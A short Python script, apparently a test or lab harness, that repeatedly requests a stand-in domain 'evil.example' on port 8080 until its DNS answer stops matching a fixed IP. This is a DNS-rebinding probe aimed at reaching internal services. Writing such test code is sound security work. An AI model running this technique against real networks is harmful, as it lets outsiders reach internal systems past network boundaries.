import re
import socket

from rows import each_answer, get


def rebind(row):
    """Connects until the name has changed its mind; only what the inside says counts."""
    for _ in range(4):
        try:
            answer = get(f"{row}.evil.example", f"{row}.evil.example", 8080)
        except OSError as error:
            answer = str(error).encode()
        if answer and b" 93.184.216.66 " not in answer:
            return answer


each_answer(rebind)
